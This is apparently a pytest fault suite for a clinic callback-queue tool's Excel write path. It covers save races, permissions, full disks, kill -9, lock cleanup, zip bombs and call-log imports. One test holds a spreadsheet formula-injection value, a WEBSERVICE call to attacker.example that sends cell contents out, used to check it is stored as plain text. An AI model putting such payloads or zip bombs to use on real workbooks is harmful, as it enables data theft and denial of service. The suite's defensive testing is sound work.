"""The fault suite: what a concurrent save, a symlink, another owner, a read-only file, a full disk, a
kill -9 and hostile files do to the Excel write path and the package readers. Counts are printed (run
with -s to see them) for the issue's report."""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import sys
import textwrap
import threading
import time
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from callback_sheets import model
from callback_sheets.app import service
from callback_sheets.backends.excel import files as excel_files
from callback_sheets.backends.excel.backend import ExcelBackend
from callback_sheets.backends.excel.lock import lock_path, workbook_lock
from callback_sheets.backends.excel.xlsx.patch import patch_workbook
from callback_sheets.backends.excel.xlsx.read import PackageRefused, check_package, read_sheet
from callback_sheets.config import Config
from callback_sheets.errors import WorkbookBusyError, WorkbookChangedError
from tests.conftest import row

NOW = datetime.fromisoformat("2026-12-01T15:00-06:00")
ROOT = os.geteuid() == 0 if hasattr(os, "geteuid") else False


def notes_of(path: Path, position: int = 2) -> object:
    grid = read_sheet(path, model.QUEUE_TAB)
    return grid[position - 1][list(grid[0]).index(model.NOTES)]


def ids_of(path: Path) -> list[object]:
    grid = read_sheet(path, model.QUEUE_TAB)
    col = list(grid[0]).index(model.ID)
    return [r[col] for r in grid[1:]]


def staff_save(base: Path, dest_dir: Path, text: str, header: list[str]) -> Path:
    """What Excel or a sync client does: the whole file, with the staff's edit, written beside the
    workbook (a name that is not ours), to be renamed over it."""
    out = dest_dir / f"staff-save-{os.urandom(3).hex()}.xlsx"
    patch_workbook(base, out, edits={model.QUEUE_TAB: {(2, header.index(model.NOTES) + 1): text}})
    return out


# --- the save-during-refresh race ----------------------------------------------------------------------
@pytest.mark.slow
@pytest.mark.parametrize("exchange", [True, False], ids=["renameat2", "fallback"])
def test_staff_save_during_refresh_is_never_lost(
    config: Config, make_queue, exchange: bool, monkeypatch
) -> None:  # type: ignore[no-untyped-def]
    """Hundreds of interleavings: a staff save (atomic rename) lands at a random moment of a refresh;
    the edit is kept every time, and the refresh either wrote on top of it or refused."""
    if exchange and excel_files.exchange.call is None:
        pytest.skip("renameat2 is not available on this system (the fallback case runs)")
    monkeypatch.setattr(excel_files, "USE_EXCHANGE", exchange)
    rows = int(os.environ.get("CALLBACK_SHEETS_RACE_ROWS", "30"))  # the 10,000: set it, and wait
    make_queue([row(f"2026-12-01 {8 + i % 9:02d}:{i % 60:02d}") for i in range(rows)])
    wb = config.workbook
    base = wb.parent / "base-copy.xlsx"
    shutil.copyfile(wb, base)
    header = [str(h) for h in read_sheet(wb, model.QUEUE_TAB)[0]]
    service.refresh(config=config, backend=ExcelBackend(wb), now=NOW)  # warm up, then time one
    shutil.copyfile(base, wb)
    t0 = time.perf_counter()
    service.refresh(config=config, backend=ExcelBackend(wb), now=NOW)
    span = time.perf_counter() - t0
    rng = random.Random(12)
    tries = int(os.environ.get("CALLBACK_SHEETS_RACE_TRIES", "200"))
    counts = {"tries": 0, "kept": 0, "redone": 0, "refused": 0, "landed_after": 0}
    before = excel_files.swap_stats.swapped_back
    windows: list[float] = []
    for i in range(tries):
        shutil.copyfile(base, wb.parent / "reset.xlsx")
        os.replace(wb.parent / "reset.xlsx", wb)
        save = staff_save(base, wb.parent, f"staff edit {i}", header)
        delay = rng.uniform(0, span)
        landed = [0.0, 0.0]

        def land(save: Path = save, landed: list[float] = landed) -> None:
            landed[0] = time.perf_counter()
            os.replace(save, wb)
            landed[1] = time.perf_counter()

        saver = threading.Timer(delay, land)
        excel_files.swap_stats.window = (0.0, 0.0)
        saver.start()
        try:
            outcome = service.refresh(config=config, backend=ExcelBackend(wb), now=NOW)
            counts["redone"] += outcome.tries > 1
        except WorkbookChangedError:
            counts["refused"] += 1
        saver.join()
        counts["tries"] += 1
        if notes_of(wb) == f"staff edit {i}":
            counts["kept"] += 1
        else:  # only acceptable without renameat2, for a save inside the fallback's stat-to-replace window
            start, end = excel_files.swap_stats.window
            assert not exchange and landed[0] <= end and landed[1] >= start, f"try {i}: the edit was lost"
            counts["in_window"] = counts.get("in_window", 0) + 1
            windows.append(end - start)
        if ids_of(wb)[0] is None:
            counts["landed_after"] += 1  # the save replaced the refreshed file: staff's program did that
    counts["swapped_back"] = excel_files.swap_stats.swapped_back - before
    shown = f", window {max(windows) * 1e6:.0f} µs" if windows else ""
    print(f"\nrace ({'renameat2' if exchange else 'fallback'}): {counts}{shown}")
    assert counts["tries"] == tries
    assert counts["kept"] == tries if exchange else counts["kept"] >= tries * 0.9
    assert not list(wb.parent.glob(".*.tmp.xlsx"))


@pytest.mark.parametrize("point", ["before_look", "between_look_and_swap"])
@pytest.mark.parametrize("exchange", [True, False], ids=["renameat2", "fallback"])
def test_save_at_each_point_of_the_swap(
    config: Config, make_queue, monkeypatch, point: str, exchange: bool
) -> None:  # type: ignore[no-untyped-def]
    """The same race, with the save placed exactly at each step of the compare-and-swap: before the
    first look, and between the look and the exchange (renameat2) or the last hash check (fallback)."""
    if exchange and excel_files.exchange.call is None:
        pytest.skip("renameat2 is not available on this system")
    monkeypatch.setattr(excel_files, "USE_EXCHANGE", exchange)
    make_queue([row("2026-12-01 09:10"), row("2026-12-01 09:20")])
    wb = config.workbook
    header = [str(h) for h in read_sheet(wb, model.QUEUE_TAB)[0]]
    save = staff_save(wb, wb.parent, "saved at the worst moment", header)

    def land() -> None:
        if save.exists():
            os.replace(save, wb)

    if point == "before_look":
        real_swap = excel_files._swap

        def swap(*args):  # type: ignore[no-untyped-def]
            land()
            return real_swap(*args)

        monkeypatch.setattr(excel_files, "_swap", swap)
    elif exchange:
        real_exchange = excel_files.exchange

        def exchange_after_save(a: Path, b: Path) -> bool:
            land()
            return real_exchange(a, b)

        monkeypatch.setattr(excel_files, "exchange", exchange_after_save)
    else:
        real_of = excel_files.FileVersion.of

        def of(path: Path, *, digest: bool = False):  # type: ignore[no-untyped-def]
            found = real_of(path, digest=digest)
            if digest and armed:  # the fallback's hash check (after the plan) has just passed
                land()
            return found

        monkeypatch.setattr(excel_files.FileVersion, "of", staticmethod(of))
    armed = False
    backend = ExcelBackend(wb)
    snapshot, plan = service.read_plan(config=config, backend=backend, now=NOW)
    armed = True
    assert save.exists()
    with pytest.raises(WorkbookChangedError):
        backend.write(snapshot, plan.changes)
    assert not save.exists()
    assert notes_of(wb) == "saved at the worst moment" and ids_of(wb) == [None, None]
    monkeypatch.undo()
    outcome = service.refresh(config=config, backend=ExcelBackend(wb), now=NOW)
    assert outcome.tries == 1 and notes_of(wb) == "saved at the worst moment"
    assert ids_of(wb) == ["CB-00001", "CB-00002"]
    assert not list(wb.parent.glob(".*.tmp.xlsx"))


# --- helpers for the CLI in a subprocess -----------------------------------------------------------------


REPO = Path(__file__).resolve().parent.parent
_AS_USER: dict[str, list[str]] = {}  # user -> the command line that runs the CLI as them


def cli(
    *args: str, cwd: Path, user: str | None = None, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    """The real command in a fresh process (optionally as another user, through runuser)."""
    cmd = [str(Path(sys.executable).parent / "callback-sheets"), *args]
    if user is not None:
        cmd = [*_AS_USER[user], *args]
    return subprocess.run(cmd, cwd=cwd, capture_output=True, text=True, timeout=timeout)


def _runnable_as(user: str) -> list[str] | str:
    """A command line running this project's CLI as `user`: this interpreter if they may execute it,
    else the system's Python of the same version on this venv's packages; or why neither works."""
    import sysconfig

    paths = os.pathsep.join([str(REPO), sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]])
    run_main = 'import sys; from callback_sheets.cli import main; sys.exit(main(prog_name="callback-sheets"))'
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    why = ""
    for interpreter in (sys.executable, f"/usr/bin/{version}", f"/usr/local/bin/{version}"):
        if not Path(interpreter).exists():
            continue
        cmd = ["runuser", "-u", user, "--", "env", f"PYTHONPATH={paths}", interpreter, "-c"]
        probe = subprocess.run(
            [*cmd, "import callback_sheets.cli, python_calamine, openpyxl"], capture_output=True
        )
        if probe.returncode == 0:
            return [*cmd, run_main]
        why = probe.stderr.decode().strip()[-200:]
    return why or "no usable interpreter"


def peak_mb(*args: str, cwd: Path) -> tuple[subprocess.CompletedProcess[str], float]:
    """Runs the command in a child of a fresh interpreter and returns its peak resident memory (MB)."""
    probe = textwrap.dedent("""
        import resource, subprocess, sys
        done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
        sys.stdout.write(done.stdout)
        sys.stderr.write(done.stderr)
        print(f"PEAK {resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}", file=sys.stderr)
        sys.exit(done.returncode)
    """)
    cmd = [sys.executable, "-c", probe, str(Path(sys.executable).parent / "callback-sheets"), *args]
    done = subprocess.run(cmd, cwd=cwd, capture_output=True, text=True, timeout=120)
    peak = int(done.stderr.rsplit("PEAK ", 1)[1].split()[0]) / 1024
    return done, peak


def temps(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp.xlsx") or ".lock." in p.name)


# --- symlink, owner, group, mode, read-only ------------------------------------------------------------
def test_symlinked_workbook_is_updated_through_the_link(config: Config, make_queue, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    make_queue([row("2026-12-01 09:10")])
    shared = tmp_path / "shared"
    shared.mkdir()
    target = shared / "clinic-queue.xlsx"
    shutil.move(config.workbook, target)
    config.workbook.symlink_to(target)
    outcome = service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
    assert outcome.result is not None and outcome.result.written
    assert config.workbook.is_symlink() and config.workbook.resolve() == target
    assert ids_of(target) == ["CB-00001"]
    assert temps(shared) == [] and temps(config.workbook.parent) == []


def test_owner_group_and_mode_are_kept(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    if not ROOT:
        pytest.skip("needs root to give the workbook another owner (the second-user test covers the rest)")
    make_queue([row("2026-12-01 09:10")])
    os.chown(config.workbook, 65534, 65534)  # nobody:nogroup
    os.chmod(config.workbook, 0o660)
    service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
    st = os.stat(config.workbook)
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (65534, 65534, 0o660)
    assert ids_of(config.workbook) == ["CB-00001"]


SECOND_USER = "cbs-fault-test"


@pytest.fixture
def second_user() -> str:
    """A real second account (made with useradd when the test runs as root), else skipped."""
    if not ROOT or not shutil.which("useradd") or not shutil.which("runuser"):
        pytest.skip("needs root with useradd and runuser to run a command as a second user")
    if subprocess.run(["id", SECOND_USER], capture_output=True).returncode != 0:
        made = subprocess.run(
            ["useradd", "--no-create-home", "--shell", "/bin/sh", SECOND_USER], capture_output=True
        )
        if made.returncode != 0:
            pytest.skip(f"useradd failed: {made.stderr.decode().strip()}")
    found = _runnable_as(SECOND_USER)
    if isinstance(found, str):
        pytest.skip(f"{SECOND_USER} cannot run this project's Python: {found}")
    _AS_USER[SECOND_USER] = found
    return SECOND_USER


@pytest.fixture
def shared_dir() -> Path:
    """A folder outside root's private pytest folder, which the second user can reach."""
    import tempfile

    folder = Path(tempfile.mkdtemp(prefix="cbs-faults-"))
    folder.chmod(0o777)
    yield folder  # type: ignore[misc]
    shutil.rmtree(folder, ignore_errors=True)


def _clinic_in(folder: Path, config: Config, make_queue) -> Path:  # type: ignore[no-untyped-def]
    make_queue([row("2026-12-01 09:10")])
    for name in ("callback_sheets.toml", "queue.xlsx"):
        shutil.copyfile(config.path.parent / name, folder / name)  # type: ignore[union-attr]
        os.chmod(folder / name, 0o644)
    return folder / "queue.xlsx"


def test_second_user_keeps_own_file_and_is_refused_on_anothers(
    second_user: str, shared_dir: Path, config: Config, make_queue
) -> None:  # type: ignore[no-untyped-def]
    import pwd

    user = pwd.getpwnam(second_user)
    wb = _clinic_in(shared_dir, config, make_queue)
    # the workbook is theirs, group-readable: a refresh as them keeps owner, group and mode
    os.chown(wb, user.pw_uid, user.pw_gid)
    os.chmod(wb, 0o640)
    done = cli("refresh", "--now", "2026-12-01T15:00", cwd=shared_dir, user=second_user)
    assert done.returncode == 0, done.stderr
    st = os.stat(wb)
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777) == (user.pw_uid, user.pw_gid, 0o640)
    assert ids_of(wb) == ["CB-00001"]
    # someone else's file they may write (group-writable): replacing it would hand it to them: refused
    os.chown(wb, 0, user.pw_gid)
    os.chmod(wb, 0o664)
    before = wb.read_bytes()
    done = cli(
        "attempt",
        "CB-00001",
        "--outcome",
        "No answer",
        "--now",
        "2026-12-01T15:10",
        cwd=shared_dir,
        user=second_user,
    )
    assert done.returncode == 1
    assert "belongs to user id 0" in done.stderr and "nothing was written" in done.stderr
    assert wb.read_bytes() == before and os.stat(wb).st_uid == 0
    assert temps(shared_dir) == []
    # a read-only file (no write permission for them) is refused too
    os.chown(wb, user.pw_uid, user.pw_gid)
    os.chmod(wb, 0o444)
    done = cli(
        "attempt",
        "CB-00001",
        "--outcome",
        "No answer",
        "--now",
        "2026-12-01T15:10",
        cwd=shared_dir,
        user=second_user,
    )
    assert done.returncode == 1 and "read-only (mode 0444)" in done.stderr, done.stderr
    assert wb.read_bytes() == before


def test_read_only_workbook_is_refused(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    make_queue([row("2026-12-01 09:10")])
    os.chmod(config.workbook, 0o444)
    before = config.workbook.read_bytes()
    done = cli("refresh", "--now", "2026-12-01T15:00", cwd=config.workbook.parent)
    assert done.returncode == 1
    assert done.stderr.strip().splitlines()[-1] == (
        "error: queue.xlsx is read-only (mode 0444): nothing was written; make it writable (chmod u+w) "
        "if the tool should update it"
    )
    assert config.workbook.read_bytes() == before and temps(config.workbook.parent) == []
    assert cli("queue", "--now", "2026-12-01T15:00", cwd=config.workbook.parent).returncode == 0  # reads work


# --- disk full ---------------------------------------------------------------------------------------------
@pytest.fixture
def small_disk() -> Path:
    """A 6 MB tmpfs (mounted when the test runs as root and may mount), else skipped."""
    import tempfile

    if not ROOT or not shutil.which("mount"):
        pytest.skip("needs root to mount a small tmpfs for the disk-full test")
    point = Path(tempfile.mkdtemp(prefix="cbs-small-disk-"))
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=6m", "tmpfs", str(point)], capture_output=True)
    if done.returncode != 0:
        point.rmdir()
        pytest.skip(f"mounting a tmpfs is not permitted here: {done.stderr.decode().strip()}")
    yield point  # type: ignore[misc]
    subprocess.run(["umount", str(point)], capture_output=True)
    point.rmdir()


def _fill(folder: Path, leave: int) -> Path:
    filler = folder / "filler.bin"
    st = os.statvfs(folder)
    free = st.f_bavail * st.f_frsize
    with open(filler, "wb") as fh:
        fh.write(b"\0" * max(free - leave, 0))
    return filler


@pytest.mark.parametrize("leave", [0, 20_000], ids=["no-space", "space-for-the-lock-not-the-workbook"])
def test_disk_full_leaves_no_lock_and_no_temp(
    small_disk: Path, config: Config, make_queue, leave: int
) -> None:  # type: ignore[no-untyped-def]
    wb = _clinic_in(small_disk, config, make_queue)
    before = wb.read_bytes()
    filler = _fill(small_disk, leave)
    done = cli("refresh", "--now", "2026-12-01T15:00", cwd=small_disk)
    assert done.returncode == 1
    assert "is full: free some space (nothing was written)" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    assert wb.read_bytes() == before
    assert temps(small_disk) == [] and not lock_path(wb).exists()
    filler.unlink()  # space again: the next run works at once (no lock left to wait 30 minutes for)
    done = cli("refresh", "--now", "2026-12-01T15:00", cwd=small_disk)
    assert done.returncode == 0, done.stderr
    assert ids_of(wb) == ["CB-00001"]


# --- locks and temporary files ---------------------------------------------------------------------------
def test_empty_or_unreadable_lock_of_a_gone_process_is_stale_at_once(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    make_queue([row("2026-12-01 09:10")])
    for content in (b"", b"{not json", b"\xff\xfe garbage"):
        lock_path(config.workbook).write_bytes(content)
        service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
        assert not lock_path(config.workbook).exists()
    with workbook_lock(config.workbook), pytest.raises(WorkbookBusyError):  # a live lock still refuses
        service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)


def test_a_lock_is_never_seen_without_its_content(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    import json

    make_queue([])
    lock = lock_path(config.workbook)
    stop = threading.Event()
    seen = {"read": 0, "empty": 0}

    def watch() -> None:
        while not stop.is_set():
            try:
                data = lock.read_bytes()
            except FileNotFoundError:
                continue
            seen["read"] += 1
            if not data or not json.loads(data):
                seen["empty"] += 1

    watcher = threading.Thread(target=watch)
    watcher.start()
    for _ in range(300):
        with workbook_lock(config.workbook):
            pass
    stop.set()
    watcher.join()
    print(f"\nlock reads while taken and freed 300 times: {seen}")
    assert seen["empty"] == 0


def test_only_our_own_stale_temp_files_are_removed(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    make_queue([row("2026-12-01 09:10")])
    folder = config.workbook.parent
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    ours_dead = folder / f".queue.xlsx.cbs-{int(dead.stdout)}-abcd1234.tmp.xlsx"
    ours_old = folder / f".queue.xlsx.cbs-{os.getppid()}-zzzz9999.tmp.xlsx"  # a live pid, but old
    legacy_old = folder / ".queue.k3j4h5g6.tmp.xlsx"  # the name versions before this one used
    ours_fresh_live = folder / f".queue.xlsx.cbs-{os.getppid()}-live0000.tmp.xlsx"
    graft_dead = folder / f".queue.xlsx.cbs-{int(dead.stdout)}-abcd1234.tmp.xlsx.graft.xlsx"  # adding tabs
    not_ours = [
        folder / ".queue.xlsx.cbs-1-short.tmp.xlsx",
        folder / ".other.xlsx.cbs-1-abcd1234.tmp.xlsx",
        folder / "queue.xlsx.cbs-1-abcd1234.tmp.xlsx",
        folder / ".queue.notes.tmp.xlsx",
        folder / ".queue.xlsx.cbs-1-abcd1234.tmp.xlsx.graft.xlsx.bak",
    ]
    for p in (ours_dead, ours_old, legacy_old, ours_fresh_live, graft_dead, *not_ours):
        p.write_bytes(b"x")
    old = time.time() - 3600
    for p in (ours_old, legacy_old, *not_ours):
        os.utime(p, (old, old))
    service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
    left = {p.name for p in folder.iterdir()}
    assert not {ours_dead.name, ours_old.name, legacy_old.name, graft_dead.name} & left
    assert {ours_fresh_live.name, *(p.name for p in not_ours)} <= left


@pytest.mark.slow
def test_kill_9_at_random_points_then_the_next_run_cleans_up(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    make_queue([row(f"2026-12-01 {8 + i % 9:02d}:{i % 60:02d}") for i in range(300)])
    folder = config.workbook.parent
    script = textwrap.dedent(f"""
        from datetime import datetime
        from pathlib import Path
        from callback_sheets.app import service
        from callback_sheets.config import load_config
        from callback_sheets.backends.excel.backend import ExcelBackend
        cfg = load_config(Path({str(config.path)!r}))
        now = datetime.fromisoformat("{NOW.isoformat()}")
        print("ready", flush=True)
        while True:
            service.refresh(config=cfg, backend=ExcelBackend(cfg.workbook), now=now)
            # the next round has something to write again (reset atomically: a kill here is harmless)
            import os, shutil; shutil.copyfile({str(folder / "base.xlsx")!r}, {str(folder / "reset.tmp")!r})
            os.replace({str(folder / "reset.tmp")!r}, cfg.workbook)
    """)
    shutil.copyfile(config.workbook, folder / "base.xlsx")
    rng = random.Random(9)
    kills = int(os.environ.get("CALLBACK_SHEETS_KILLS", "12"))
    left_behind = 0
    for _ in range(kills):
        proc = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
        assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
        time.sleep(rng.uniform(0.0, 0.6))
        proc.kill()
        proc.wait()
        proc.stdout.close()
        openpyxl.load_workbook(config.workbook)  # old or new, never broken
        left_behind += len([n for n in temps(folder) if n.endswith(".tmp.xlsx")])
        service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)  # the next run
        assert temps(folder) == [], temps(folder)  # its temp files and its lock are gone
    print(f"\nkill -9: {kills} kills, {left_behind} temp file(s) left by them, all removed by the next run")


# --- zip bombs ---------------------------------------------------------------------------------------------
from tests.zip_bombs import workbook_bomb  # noqa: E402


def test_check_package_names_the_limit_it_hits(tmp_path: Path) -> None:
    from tests.zip_bombs import bomb_member, write_zip

    data, crc, size = bomb_member(b"<a>", b" " * (1 << 20), 10, b"</a>")  # 10 MiB in a few KB
    write_zip(tmp_path / "b.xlsx", [("xl/big.xml", data, crc, size, 8)])
    with pytest.raises(PackageRefused, match=r"part xl/big.xml is compressed [\d,]+:1 \(limit 100:1\)"):
        check_package(tmp_path / "b.xlsx")
    with pytest.raises(PackageRefused, match=r"part xl/big.xml would inflate to 10 MB \(limit 5 MB\)"):
        check_package(tmp_path / "b.xlsx", max_member=5 << 20, max_ratio=10_000)
    data, crc, size = bomb_member(b"", b"x" * 1000, 1000, b"")  # 1 MB parts
    write_zip(tmp_path / "t.xlsx", [(f"p{i}.xml", data, crc, size, 8) for i in range(2)])
    with pytest.raises(PackageRefused, match=r"t.xlsx would inflate to 2 MB \(limit 1 MB\)"):
        check_package(tmp_path / "t.xlsx", max_total=1 << 20)
    check_package(tmp_path / "t.xlsx")  # 2 MB at 1000:1 but small parts: a normal package passes
    (tmp_path / "not-a-zip.xlsx").write_text("hello")
    check_package(tmp_path / "not-a-zip.xlsx")  # left to the reader's own message


def test_real_workbooks_pass_the_limits() -> None:
    corpus = REPO.parent / "shared" / "xlsx-corpus"
    if not corpus.is_dir():
        pytest.skip(f"the shared xlsx corpus is not at {corpus}")
    files = [p for p in sorted(corpus.rglob("*")) if p.suffix.lower() in (".xlsx", ".xlsm", ".ods")]
    refused = []
    for path in files:
        try:
            check_package(path)
        except PackageRefused as exc:
            refused.append(str(exc))
    print(f"\ncorpus: {len(files)} packages, {len(refused)} refused: {refused}")
    assert len(files) > 100
    # one test file of another project (a 57 MB sheet of one long string repeated, 121:1) is over the
    # ratio limit; every real-world workbook of the corpus passes
    assert [r.split(":")[0] for r in refused] in ([], ["129_test_files_large_strings.xlsx"])


@pytest.fixture
def bomb_clinic(config: Config, make_queue) -> Path:  # type: ignore[no-untyped-def]
    make_queue([row("2026-12-01 09:10")])
    return config.workbook


@pytest.mark.parametrize("lie", [False, True], ids=["true-sizes", "lying-header"])
def test_zip_bomb_queue_is_refused_with_bounded_memory(bomb_clinic: Path, lie: bool) -> None:
    folder = bomb_clinic.parent
    workbook_bomb(bomb_clinic, folder / "bomb.xlsx", "xl/worksheets/sheet1.xml", megabytes=330, lie=lie)
    size = (folder / "bomb.xlsx").stat().st_size
    assert size < 1_200_000
    os.replace(folder / "bomb.xlsx", bomb_clinic)
    done, peak = peak_mb("refresh", "--now", "2026-12-01T15:00", cwd=folder)
    print(f"\nrefresh of a {size / 1e6:.1f} MB zip bomb ({'lying header' if lie else 'true sizes'}): "
          f"exit {done.returncode}, peak {peak:.0f} MB")  # fmt: skip
    assert done.returncode == 1
    assert ("refused as a zip bomb" if not lie else "larger than its declared") in done.stderr, done.stderr
    assert peak < 300
    assert temps(folder) == []


@pytest.mark.parametrize("lie", [False, True], ids=["true-sizes", "lying-header"])
def test_zip_bomb_export_is_refused_with_bounded_memory(bomb_clinic: Path, lie: bool) -> None:
    folder = bomb_clinic.parent
    export = folder / "calls.xlsx"
    workbook_bomb(bomb_clinic, export, "xl/worksheets/sheet1.xml", megabytes=330, lie=lie)
    done, peak = peak_mb("import-calls", str(export), "--dry-run", "--now", "2026-12-01T15:00", cwd=folder)
    kind = "lying header" if lie else "true sizes"
    print(f"\nimport-calls --dry-run of a {export.stat().st_size / 1e6:.1f} MB zip bomb ({kind}): "
          f"exit {done.returncode}, peak {peak:.0f} MB")  # fmt: skip
    assert done.returncode == 1
    assert "zip bomb" in done.stderr or "could not be read" in done.stderr, done.stderr
    assert peak < 300


# --- literal text from config ------------------------------------------------------------------------------
def test_choices_from_config_are_written_as_text_never_formulas(clinic_dir: Path) -> None:
    from callback_sheets.config import load_config

    toml = clinic_dir / "callback_sheets.toml"
    evil = '=WEBSERVICE("http://attacker.example/?"&A1)'
    toml.write_text(
        toml.read_text() + f'\n[choices]\nlanguages = ["English", "Spanish", {evil!r}]\n'.replace("'", "'")
    )
    config = load_config(toml)
    assert evil in config.languages
    service.init(config=config, backend=ExcelBackend(config.workbook))
    with zipfile.ZipFile(config.workbook) as archive:
        parts = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")}
    assert not any("<f>" in xml or "<f " in xml for xml in parts.values())
    lists = read_sheet(config.workbook, model.LISTS_TAB)
    assert evil in [c for r in lists for c in r]


# --- exports -----------------------------------------------------------------------------------------------
TWILIO = [
    ["Sid", "DateCreated", "StartTime", "From", "CallerName", "Direction", "Status"],
    ["CA01", "2026-12-01 15:00:00", "2026-12-01 15:00:00", "+13125550142", "Pat Q", "inbound", "no-answer"],
    ["CA02", "2026-12-01 15:05:00", "2026-12-01 15:05:00", "+13125550143", "Lee R", "inbound", "completed"],
    ["CA03", "2026-12-01 15:07:00", "2026-12-01 15:07:00", "+13125550144", "Ann S", "inbound", "busy"],
]


@pytest.mark.parametrize(
    ("encoding", "bom", "delimiter"),
    [
        ("utf-16-le", b"\xff\xfe", "\t"),  # Excel's "Unicode Text"
        ("utf-16-be", b"\xfe\xff", "\t"),
        ("utf-16-le", b"", "\t"),  # no byte-order mark
        ("utf-8", b"\xef\xbb\xbf", ";"),
        ("utf-32-le", b"\xff\xfe\x00\x00", ","),
    ],
    ids=["utf16le-bom-tab", "utf16be-bom-tab", "utf16le-nobom-tab", "utf8-bom-semicolon", "utf32-bom"],
)
def test_unicode_text_exports_are_read(
    config: Config, make_queue, encoding: str, bom: bytes, delimiter: str
) -> None:  # type: ignore[no-untyped-def]
    make_queue([])
    export = config.workbook.parent / "calls.txt"
    text = "\r\n".join(delimiter.join(r) for r in TWILIO) + "\r\n"
    export.write_bytes(bom + text.encode(encoding))
    done = cli(
        "import-calls", str(export), "--dry-run", "--json", "--now", "2026-12-01T16:00", cwd=export.parent
    )
    assert done.returncode == 0, done.stderr
    import json

    summary = json.loads(done.stdout)
    assert (summary["format"], summary["missed_calls"], summary["ignored"]) == ("twilio", 2, 1)
    assert summary["unknown_values"] == []


def test_unknown_direction_and_status_values_are_listed_and_exit_1(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    make_queue([])
    export = config.workbook.parent / "calls.csv"
    rows = [TWILIO[0]] + [
        [
            f"CA{i}",
            "2026-12-01 15:00:00",
            "",
            f"+1312555{i:04d}",
            "",
            "Incoming",
            "No Answer" if i % 3 else "Busy",
        ]
        for i in range(9)
    ]
    export.write_text("\n".join(",".join(r) for r in rows))
    done = cli("import-calls", str(export), "--now", "2026-12-01T16:00", cwd=export.parent)
    assert done.returncode == 1
    lines = done.stderr.splitlines()
    assert (
        "unknown Direction values, not imported: 'Incoming' (9); to import them, map them with "
        "[intake.mapping] inbound_values (with the generic format's column mapping)"
    ) in lines
    assert any(
        line.startswith("unknown Status values, not imported: 'No Answer' (6);") for line in lines
    )
    assert "calls.csv: no call in it was recognised (nothing was imported)" in lines
    assert ids_of(config.workbook) == []
    # some known rows beside the unknown ones: the unknown ones are still listed, exit 0
    export.write_text("\n".join(",".join(r) for r in [*rows, TWILIO[1]]))
    done = cli("import-calls", str(export), "--json", "--now", "2026-12-01T16:00", cwd=export.parent)
    assert done.returncode == 0, done.stderr
    import json

    unknown = json.loads(done.stdout)["unknown_values"]
    assert {"column": "Direction", "value": "Incoming", "rows": 9, "config_key": "inbound_values"} in unknown
    assert "unknown Direction values" in done.stderr


# --- demo --------------------------------------------------------------------------------------------------
def test_demo_refuses_a_folder_with_a_config_or_workbook(tmp_path: Path) -> None:
    folder = tmp_path / "clinic"
    folder.mkdir()
    (folder / "callback_sheets.toml").write_text("# the clinic's real config\n")
    done = cli("demo", str(folder), "--now", "2026-12-04T15:00", cwd=tmp_path)
    assert done.returncode == 1
    assert "already holds callback_sheets.toml" in done.stderr and "--force" in done.stderr
    assert (folder / "callback_sheets.toml").read_text() == "# the clinic's real config\n"
    (folder / "callback_sheets.toml").unlink()
    (folder / "queue.xlsx").write_bytes(b"staff's workbook")
    assert cli("demo", str(folder), cwd=tmp_path).returncode == 1
    assert (folder / "queue.xlsx").read_bytes() == b"staff's workbook"
    done = cli("demo", str(folder), "--force", "--now", "2026-12-04T15:00", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert (folder / "callback_queue.xlsx").exists() and (
        folder / "queue.xlsx"
    ).read_bytes() == b"staff's workbook"


# --- closed items, attempts used up, Urgency ------------------------------------------------------------
def _statuses(path: Path) -> list[tuple[object, ...]]:
    grid = read_sheet(path, model.QUEUE_TAB)
    cols = [list(grid[0]).index(c) for c in (model.ID, model.STATUS, model.ATTEMPTS, model.LAST_OUTCOME)]
    return [tuple(r[c] for c in cols) for r in grid[1:]]


def test_closed_items_and_used_up_attempts(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    make_queue(
        [
            row("2026-11-30 09:10", Status="No response", Attempts=3, Last_outcome="No answer",
                Last_attempt=datetime(2026, 12, 1, 9, 0)),
            row("2026-11-30 09:20", Status="Booked", Attempts=1, Last_outcome="Booked",
                Last_attempt=datetime(2026, 11, 30, 10, 0)),
            row("2026-11-30 09:30", Reason="Billing", Attempts=3, Status="In progress",
                Last_outcome="No answer", Last_attempt=datetime(2026, 12, 1, 9, 0)),
        ]
    )  # fmt: skip
    folder = config.workbook.parent
    assert cli("refresh", "--now", "2026-12-01T15:00", cwd=folder).returncode == 0
    before = config.workbook.read_bytes()
    done = cli("attempt", "CB-00001", "--outcome", "No answer", "--now", "2026-12-01T15:10", cwd=folder)
    assert done.returncode == 1
    assert done.stderr.strip() == (
        "error: CB-00001 is closed (Status No response): no attempt was recorded; if the patient needs "
        "another call, add --reopen (sets Status back to In progress)"
    )
